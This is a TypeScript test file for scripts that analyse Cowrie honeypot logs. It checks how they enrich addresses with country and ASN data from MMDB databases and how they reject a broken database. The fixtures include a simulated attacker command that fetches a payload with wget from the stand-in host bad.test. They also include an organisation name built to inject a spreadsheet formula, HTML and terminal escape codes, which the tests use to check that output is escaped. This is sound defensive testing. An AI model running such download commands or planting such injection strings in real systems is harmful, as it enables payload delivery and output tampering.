/** `--mmdb` of the scripts that show addresses: what each says of where they come from, and of a broken database. */
import { afterAll, beforeAll, expect, test } from "bun:test";
import { writeFileSync } from "node:fs";
import { join } from "node:path";
import { toLine } from "../support/event-logs.ts";
import { buildMmdb } from "../support/mmdb.ts";
import { makeTempDir, runScript } from "../support/run.ts";

let folder: Awaited<ReturnType<typeof makeTempDir>>;
beforeAll(async () => {
  folder = await makeTempDir();
  const sessions: [session: string, address: string][] = [["s1", "203.0.113.7"], ["s2", "203.0.113.9"], ["s3", "198.51.100.1"], ["s4", "192.0.2.1"]];
  const events = sessions.flatMap(([session, src_ip], i) => [
    { eventid: "session.connect", at: i, session, src_ip, dst_port: 22 },
    { eventid: "session.closed", at: i + 1, session, src_ip },
  ]);
  writeFileSync(join(folder.path, "cowrie.json"), events.map(event => `${toLine(event)}\n`).join(""));
  const network = { autonomous_system_number: 64496, autonomous_system_organization: "=1+1 <b>\x1b[2J" };
  writeFileSync(join(folder.path, "country.mmdb"), buildMmdb({ networks: { "203.0.113.0/24": { country: { iso_code: "NL" } }, "198.51.100.0/24": { country: "DE" } } }));
  writeFileSync(join(folder.path, "asn.mmdb"), buildMmdb({ type: "Test-ASN", networks: { "203.0.113.0/24": network } }));
});
afterAll(() => folder[Symbol.asyncDispose]());

const DATABASES = ["--mmdb", "country.mmdb", "--mmdb", "asn.mmdb"];
const runHere = (script: string, ...args: string[]) => runScript(script, ["cowrie.json", ...args], { cwd: folder.path });

test("value-counts counts by country and network, and takes them as conditions", async () => {
  const counted = await runHere("value-counts", "--event", "session.connect", "--column", "country,asn,as_org", "--csv", ...DATABASES);
  expect(counted.stdout).toBe("country,asn,as_org,count\nNL,AS64496,'=1+1 <b>\\x1b[2J,2\nDE,,,1\n");
  expect(counted.stderr).toContain("1 more had no value");
  expect(counted.stderr).toContain("; origins by Test-Country of 2026-08-01, Test-ASN of 2026-08-01\n");
  const where = await runHere("value-counts", "--column", "src_ip", "--where", "country!=NL", "--csv", "-q", ...DATABASES);
  expect(where.stdout).toBe("src_ip,count\n192.0.2.1,2\n198.51.100.1,2\n");
});

test("without a database the columns are unknown, and the way to them is told", async () => {
  const { stderr, exitCode } = await runHere("value-counts", "--column", "country", "-q");
  expect({ exitCode, line: stderr.split("\n")[0] }).toEqual({
    exitCode: 2,
    line: 'value-counts: Cannot find a column or key "country" in these events: it takes a database, --mmdb FILE',
  });
});

test("the traces tell the origin, as text, JSON and page, and by which database", async () => {
  const text = await runHere("trace-ip", "-i", "0.0.0.0/0", ...DATABASES);
  const origins = text.stdout.split("\n").filter(line => line.includes("origin"));
  expect(origins).toEqual(["  origin    NL, AS64496 =1+1 <b>\\x1b[2J (2 addresses)", "  origin    DE (1 address)", "  origin    unknown (1 address)"]);
  expect(text.stderr).toContain("trace-ip: origins by Test-Country of 2026-08-01, Test-ASN of 2026-08-01\n");
  const json = JSON.parse((await runHere("trace-sid", "-sid", "s1", "--json", "-q", ...DATABASES)).stdout);
  expect(json.sessions[0]).toMatchObject({ country: "NL", asn: "AS64496", as_org: "=1+1 <b>\x1b[2J" });
  const page = await runHere("trace-sid", "-sid", "s1", "-o", "-", "-q", ...DATABASES);
  expect(page.stdout).toContain("origins by Test-Country of 2026-08-01");
  expect(page.stdout).toContain("NL, AS64496 &#x3D;1+1 &lt;b&gt;\\x1b[2J");
});

test("summary ranks countries and networks by their addresses", async () => {
  const { stdout } = await runHere("summary", "--json", "-q", ...DATABASES);
  const { countries, networks } = JSON.parse(stdout);
  expect(countries).toEqual({
    distinct: 3,
    top: [
      { country: "NL", count: 2, share: 0.5 },
      { country: null, count: 1, share: 0.25 },
      { country: "DE", count: 1, share: 0.25 },
    ],
  });
  expect(networks.top[0]).toEqual({ network: null, count: 2, share: 0.5 });
  const text = await runHere("summary", "-q", ...DATABASES);
  expect(text.stdout).toContain("Countries of addresses (3)\n");
});

test("campaigns and the digest tell countries and networks of their addresses, by which database", async () => {
  const addresses = ["203.0.113.7", "203.0.113.9", "198.51.100.1", "192.0.2.1"];
  const events = addresses.flatMap((src_ip, at) => [
    { eventid: "session.connect", at, session: `c${at}`, src_ip, dst_port: 22 },
    { eventid: "command.input", at, session: `c${at}`, src_ip, input: "wget http://bad.test/weasel" },
  ]);
  writeFileSync(join(folder.path, "weasel.json"), events.map(event => `${toLine(event)}\n`).join(""));
  const runOn = (script: string, ...args: string[]) => runScript(script, ["weasel.json", "--mapped-dir", "tables", ...args, ...DATABASES], { cwd: folder.path });
  const origins = {
    countries: [{ country: "NL", addresses: 2 }, { country: null, addresses: 1 }, { country: "DE", addresses: 1 }],
    networks: [{ network: null, addresses: 2 }, { network: "AS64496 =1+1 <b>\x1b[2J", addresses: 2 }],
  };
  const [campaign] = JSON.parse((await runOn("campaigns", "--json", "-q")).stdout).campaigns;
  expect(campaign.origins).toEqual(origins);
  expect(campaign.addresses.find(({ src_ip }: { src_ip: string }) => src_ip === "203.0.113.7")).toMatchObject({ country: "NL", asn: "AS64496" });
  const csv = (await runOn("campaigns", "--csv", "-q")).stdout.split("\n");
  expect(csv[0]).toEndWith(",chain,countries,as_networks");
  expect(csv[1]).toEndWith(",NL DE,AS64496 =1+1 <b>\\x1b[2J");
  const sheet = await runOn("campaigns", "--campaign", campaign.id);
  expect(sheet.stdout).toContain("1 × 203.0.113.7  NL, AS64496 =1+1 <b>\\x1b[2J\n");
  expect(sheet.stdout).toContain("Countries   NL 2, unknown 1, DE 1\nNetworks    2 addresses unknown\n            2 addresses AS64496");
  expect(sheet.stderr).toContain("; origins by Test-Country of 2026-08-01, Test-ASN of 2026-08-01\n");
  expect((await runOn("campaigns", "-q")).stdout).toMatch(/countries +largest network\n.* NL 2, unknown 1, DE 1  AS64496 =1\+1 <b>\\x1b\[2J 2\n/);

  const digest = (await runOn("digest", "-q")).stdout;
  expect(digest).toContain(
    "Where addresses come from (Test-Country of 2026-08-01, Test-ASN of 2026-08-01)\n" +
      "  countries: NL 2, unknown 1, DE 1\n  networks: unknown 2, AS64496 =1+1 <b>\\x1b[2J 2\n",
  );
  expect(JSON.parse((await runOn("digest", "--json", "-q")).stdout).origins).toMatchObject({ ...origins, databases: [{ name: "country.mmdb" }, { name: "asn.mmdb" }] });
});

test.each([
  ["value-counts", ["--column", "country"]],
  ["trace-ip", ["-i", "203.0.113.7"]],
  ["trace-sid", ["-sid", "s1"]],
  ["summary", []],
  ["campaigns", []],
  ["digest", []],
] as const)("%s refuses a broken database in one line, before it reads a log", async (script, args) => {
  writeFileSync(join(folder.path, "broken.mmdb"), "\xab\xcd\xefMaxMind.com", "latin1");
  const { stdout, stderr, exitCode } = await runHere(script, ...args, "--mmdb", "broken.mmdb");
  expect({ stdout, stderr, exitCode }).toEqual({
    stdout: "",
    stderr: `${script}: Cannot use "broken.mmdb" as an MMDB database: a value that lies outside of it\n`,
    exitCode: 1,
  });
});
